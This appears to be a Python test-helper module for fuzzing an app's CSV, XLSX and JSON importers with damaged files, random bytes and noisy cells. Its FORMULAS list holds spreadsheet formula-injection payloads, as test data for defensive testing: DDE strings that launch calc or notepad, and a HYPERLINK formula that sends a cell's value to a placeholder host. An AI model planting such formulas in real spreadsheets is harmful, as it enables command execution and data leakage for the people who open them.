"""Fuzzing what the app reads (tests/test_fuzz_importers.py): files damaged the ways
disks, mailers and people damage them, the database compared before and after an
import, and how many cases each importer was given.

- FUZZ: the hypothesis settings of every fuzz test, `max_examples` from the
  environment (TAVANA_FUZZ_EXAMPLES; the default keeps the file under a minute in CI).
- damaged(valid): a valid file with a bit flipped, cut short, or a span replaced;
  junk(): random bytes; damaged_json(value): a document with one value changed,
  dropped or added, for files whose signature is made again over the change.
- sheets and their CSV (any delimiter, line ending and encoding) and XLSX files.
- snapshot()/changed(): every table's rows, and what changed between two snapshots.
- rolled_back(): what an example writes is undone, so each starts from the same data.
- CASES: the cases run per importer and how they ended, printed in pytest's summary.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import zipfile
from collections import Counter, defaultdict
from collections.abc import Callable, Collection, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from desktop.models import db

EXAMPLES_VARIABLE = "TAVANA_FUZZ_EXAMPLES"
DEFAULT_EXAMPLES = 50  # per fuzz test: the file takes about 30 s on SQLite (a minute in CI)

settings.register_profile(
    "tavana-fuzz",
    max_examples=int(os.environ.get(EXAMPLES_VARIABLE) or DEFAULT_EXAMPLES),
    deadline=None,  # an example imports a file: its time is the importer's, not a bound
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,  # one database per test; each example rolls back
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
    print_blob=True,
)
FUZZ = settings.get_profile("tavana-fuzz")


# -- counting cases ------------------------------------------------------------------------


class CaseCounts:
    """Cases per importer and how each ended; a pytest plugin that prints them at the
    end of the run (the test module registers it)."""

    def __init__(self) -> None:
        self.counts: defaultdict[str, Counter[str]] = defaultdict(Counter)

    def record(self, importer: str, outcome: str) -> None:
        self.counts[importer][outcome] += 1

    def lines(self) -> list[str]:
        return [
            f"{importer}: {sum(outcomes.values())} cases ("
            + ", ".join(f"{outcome} {count}" for outcome, count in sorted(outcomes.items()))
            + ")"
            for importer, outcomes in sorted(self.counts.items())
        ]

    def pytest_terminal_summary(self, terminalreporter: Any) -> None:
        if self.counts:
            terminalreporter.section("fuzz cases per importer")
            for line in self.lines():
                terminalreporter.write_line(line)


CASES = CaseCounts()


def register_case_counts(config: pytest.Config) -> None:
    if not config.pluginmanager.is_registered(CASES):
        config.pluginmanager.register(CASES, "tavana-fuzz-cases")


# -- damaged bytes -------------------------------------------------------------------------


@dataclass(frozen=True)
class Damage:
    """One change to a file, drawn as its few numbers (hypothesis prints these, not a
    megabyte of file): from `position`, `length` bytes replaced by `inserted`; or the
    file cut there; or one bit of that byte flipped."""

    position: int
    length: int = 0
    inserted: bytes = b""
    cut: bool = False
    bit: int | None = None

    def applied(self, valid: bytes) -> bytes:
        if self.cut:
            return valid[: self.position]
        if self.bit is not None:
            changed = bytearray(valid)
            changed[self.position] ^= 1 << self.bit
            return bytes(changed)
        return valid[: self.position] + self.inserted + valid[self.position + self.length :]


def damage(size: int) -> st.SearchStrategy[Damage]:
    """A bit flipped, the file cut short anywhere, or a span replaced by random bytes."""
    position = st.integers(0, size - 1)
    return st.one_of(
        st.builds(Damage, position, bit=st.integers(0, 7)),
        st.builds(Damage, position, cut=st.just(True)),
        st.builds(Damage, position, st.integers(0, 64), st.binary(min_size=1, max_size=64)),
    )


def damaged(valid: bytes) -> st.SearchStrategy[bytes]:
    """`valid` with a `damage` (never `valid` itself)."""
    return (
        damage(len(valid))
        .map(lambda change: change.applied(valid))
        .filter(lambda data: data != valid)
    )


def junk(*prefixes: bytes) -> st.SearchStrategy[bytes]:
    """Random bytes, some starting as a file of the expected kind does."""
    return st.builds(
        lambda prefix, rest: prefix + rest,
        st.sampled_from((b"", *prefixes)),
        st.binary(max_size=2048),
    )


# -- documents -----------------------------------------------------------------------------

JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.sampled_from([2**63, -(2**63) - 1, 10**30, 1e308, -0.0])
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
    | st.sampled_from(["", "0", "-1", "1e999", "2026-13-45T99:99:99", "TEH05", "\x00"]),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=6,
)


def _paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _paths(child, (*path, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            yield from _paths(child, (*path, index))


def _replaced(value: Any, path: tuple[Any, ...], change: Callable[[Any], Any]) -> Any:
    if not path:
        return change(value)
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = _replaced(value[path[0]], path[1:], change)
    return copy


_DROPPED = object()


def _without_dropped(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: _without_dropped(v) for k, v in value.items() if v is not _DROPPED}
    if isinstance(value, list):
        return [_without_dropped(v) for v in value if v is not _DROPPED]
    return value


@st.composite
def damaged_json(draw: st.DrawFn, value: Any) -> Any:
    """`value` (a JSON document) with one value replaced by any JSON value, dropped,
    or given a key more."""
    path = draw(st.sampled_from(list(_paths(value))))
    how = draw(st.sampled_from(("replace", "drop", "add") if path else ("replace", "add")))
    if how == "replace":
        new = draw(JSON_VALUES)
        return _replaced(value, path, lambda _: new)
    if how == "drop":
        return _without_dropped(_replaced(value, path, lambda _: _DROPPED))
    key, extra = draw(st.text(max_size=8)), draw(JSON_VALUES)

    def added(found: Any) -> Any:
        if isinstance(found, dict):
            return {**found, key: extra}
        if isinstance(found, list):
            return [*found, extra]
        return [found, extra]

    return _replaced(value, path, added)


# -- sheets --------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"باز کنید")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "=1",
)
TRICKY_CELLS = (
    "",
    " ",
    "\u200c",
    "\ufeff",
    "\u202e۱۲۳",
    "\x00",
    "۱۲۳۴۵۶۷۸۹۰",
    "٠١٢٣٤٥٦٧٨٩",
    "²",
    "½",
    "1e999",
    "NaN",
    "-5",
    "0",
    "9" * 30,
    "1,000,000",
    "۸۷٫۵٪",
    "ي ك ۀ",
    '"',
    "a\nb",
    "x" * 10_001,
)
PERSIAN = "ابپتثجچحخدذرزژسشصضطظعغفقکگلمنوهیيكۀ‌ ۰۱۲۳۴۵۶۷۸۹"


NUMBERS = "0123456789۰۱۲۳۴۵۶۷۸۹٠١٢٣٤٥٦٧٨٩²³¹０１２٫٬.,/-%٪ e"


def noise() -> st.SearchStrategy[str]:
    """A cell nobody meant: random text, a formula, numbers of any size in digits of
    every script, blanks."""
    return st.one_of(
        st.text(max_size=20),
        st.text(alphabet=PERSIAN, max_size=20),
        st.text(alphabet=NUMBERS, min_size=1, max_size=40),
        st.integers(0, 40).map(lambda digits: "9" * digits),
        st.integers(1, 600).map(lambda length: "ب" * length),  # past a column's size
        st.sampled_from(FORMULAS),
        st.tuples(st.sampled_from(FORMULA_STARTS), st.text(max_size=12)).map("".join),
        st.sampled_from(TRICKY_CELLS),
    )


@st.composite
def sheet(
    draw: st.DrawFn, headers: Sequence[str], valid_rows: st.SearchStrategy[list[str]]
) -> tuple[list[str], list[list[str]]]:
    """A sheet of `headers` over rows drawn from `valid_rows`, then disturbed: columns
    in another order, a header renamed or added, cells replaced by noise, rows cut
    short or run long, empty rows."""
    order = draw(st.permutations(range(len(headers))))
    names = [headers[i] for i in order]
    rows = [[row[i] for i in order] for row in draw(st.lists(valid_rows, max_size=6))]
    if draw(st.integers(0, 4)) == 0:
        at = draw(st.integers(0, len(names) - 1))
        names[at] = draw(noise())
    if draw(st.integers(0, 4)) == 0:
        names.append(draw(noise()))
    cells: list[list[str]] = []
    for row in rows:
        # Half the rows as they were (so some get through), the rest with noise here
        # and there, cut short, run long or empty.
        disturbed = list(row)
        for _ in range(draw(st.sampled_from((0, 0, 0, 1, 1, 2, len(row))))):
            disturbed[draw(st.integers(0, len(row) - 1))] = draw(noise())
        shape = draw(st.integers(0, 9))
        if shape == 0:
            disturbed = disturbed[: draw(st.integers(0, len(disturbed)))]
        elif shape == 1:
            disturbed += draw(st.lists(noise(), min_size=1, max_size=3))
        elif shape == 2:
            disturbed = [""] * len(disturbed)
        cells.append(disturbed)
    return names, cells


ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1256", "latin-1")


@st.composite
def csv_file(draw: st.DrawFn, table: tuple[list[str], list[list[str]]]) -> bytes:
    """The sheet as a CSV file: any delimiter, quoting, line ending and encoding
    (Excel's UTF-8 with a BOM, its UTF-16 «Unicode Text», Windows-1256 Persian…)."""
    headers, rows = table
    out = io.StringIO(newline="")
    writer = csv.writer(
        out,
        delimiter=draw(st.sampled_from((",", ";", "\t", "|"))),
        lineterminator=draw(st.sampled_from(("\n", "\r\n", "\r"))),
        quoting=draw(st.sampled_from((csv.QUOTE_MINIMAL, csv.QUOTE_ALL))),
    )
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode(draw(st.sampled_from(ENCODINGS)), errors="replace")


@st.composite
def xlsx_file(draw: st.DrawFn, table: tuple[list[str], list[list[str]]]) -> bytes:
    """The sheet as a workbook, cells typed as a person's Excel types them: numbers,
    dates, booleans and live formulas among the text."""
    headers, rows = table
    book = Workbook()
    active = book.active
    assert active is not None
    if draw(st.booleans()):  # another sheet first: the import reads the active one
        book.create_sheet("پیش", 0).append(["x"])
        book.active = 1
    active.append([_clean(header) for header in headers])
    for row in rows:
        active.append([draw(_typed(value)) for value in row])
    return _saved(book)


def _clean(text: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def _typed(text: str) -> st.SearchStrategy[object]:
    """A cell's value as Excel may hold it: the text, a number, a date or a boolean."""
    text = _clean(text)
    choices: list[object] = [text]
    try:
        number = float(text)
    except ValueError:
        pass
    else:
        if abs(number) < 1e15:  # Excel's own precision
            choices.append(int(number) if number.is_integer() else number)
    choices += [dt.date(1991, 8, 3), dt.datetime(2026, 3, 21, 8, 30), True, 12.5]
    return st.integers(0, 19).flatmap(
        lambda k: st.just(text) if k < 18 else st.sampled_from(choices)
    )


def damaged_part(valid_xlsx: bytes) -> st.SearchStrategy[bytes]:
    """A workbook whose zip is whole but one part's XML is damaged (a bit flipped, cut
    short, a span replaced), so the XML reader meets it, not the zip's checksums."""
    with zipfile.ZipFile(io.BytesIO(valid_xlsx)) as archive:
        parts = {item.filename: archive.read(item.filename) for item in archive.infolist()}

    return st.sampled_from(sorted(parts)).flatmap(
        lambda name: damaged(parts[name]).map(lambda content: zipped({**parts, name: content}))
    )


def sheet_files(
    table: st.SearchStrategy[tuple[list[str], list[list[str]]]],
    valid_csv: bytes,
    valid_xlsx: bytes,
) -> st.SearchStrategy[tuple[str, str, bytes]]:
    """(kind, suffix, bytes) of a file handed to a sheet importer: a made sheet as CSV
    or XLSX, a valid one damaged, a workbook with a damaged part, random bytes."""
    return st.one_of(
        st.tuples(
            st.just("csv"), st.sampled_from((".csv", ".txt", ".tsv")), table.flatmap(csv_file)
        ),
        st.tuples(st.just("xlsx"), st.just(".xlsx"), table.flatmap(xlsx_file)),
        st.tuples(st.just("damaged csv"), st.just(".csv"), damaged(valid_csv)),
        st.tuples(st.just("damaged xlsx"), st.just(".xlsx"), damaged(valid_xlsx)),
        st.tuples(st.just("damaged xlsx part"), st.just(".xlsx"), damaged_part(valid_xlsx)),
        st.tuples(
            st.just("random bytes"),
            st.sampled_from((".csv", ".xlsx")),
            junk(b"PK\x03\x04", b"\xef\xbb\xbf", b"\xff\xfe"),
        ),
    )


def csv_bytes(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def xlsx_bytes(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> bytes:
    book = Workbook()
    active = book.active
    assert active is not None
    active.append(list(headers))
    for row in rows:
        active.append(list(row))
    return _saved(book)


_STAMP = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


def _saved(book: Workbook) -> bytes:
    """The workbook's bytes, the same whenever it is made: openpyxl stamps the time of
    saving into docProps/core.xml and on every zip entry, and hypothesis must draw the
    same positions in a valid file each time it makes it."""
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        parts = {item.filename: archive.read(item.filename) for item in archive.infolist()}
    return zipped({name: _STAMP.sub(b"2026-03-21T08:30:00Z", data) for name, data in parts.items()})


def zipped(parts: dict[str, bytes]) -> bytes:
    """A zip of `parts`, dated alike."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(
                zipfile.ZipInfo(name, (2026, 3, 21, 8, 30, 0)), data, zipfile.ZIP_DEFLATED
            )
    return out.getvalue()


# -- the database before and after ---------------------------------------------------------

Snapshot = dict[str, Counter[str]]


def snapshot(skip: Collection[str] = ()) -> Snapshot:
    """Every table's rows (as text, counted), but those in `skip`."""
    found: Snapshot = {}
    for table in db.get_tables():
        if table not in skip:
            rows = db.execute_sql(f'SELECT * FROM "{table}"').fetchall()
            found[table] = Counter(repr(tuple(row)) for row in rows)
    return found


def changed(before: Snapshot, after: Snapshot) -> dict[str, tuple[list[str], list[str]]]:
    """Table → (rows gone, rows come), for the tables that changed."""
    found = {}
    for table in sorted(set(before) | set(after)):
        old, new = before.get(table, Counter()), after.get(table, Counter())
        if old != new:
            found[table] = (sorted((old - new).elements()), sorted((new - old).elements()))
    return found


@contextmanager
def rolled_back() -> Iterator[None]:
    """Whatever the block writes is undone after it (the importer's own transactions
    run inside as savepoints, committed or rolled back as they would be alone)."""
    with db.atomic() as transaction:
        yield
        transaction.rollback()
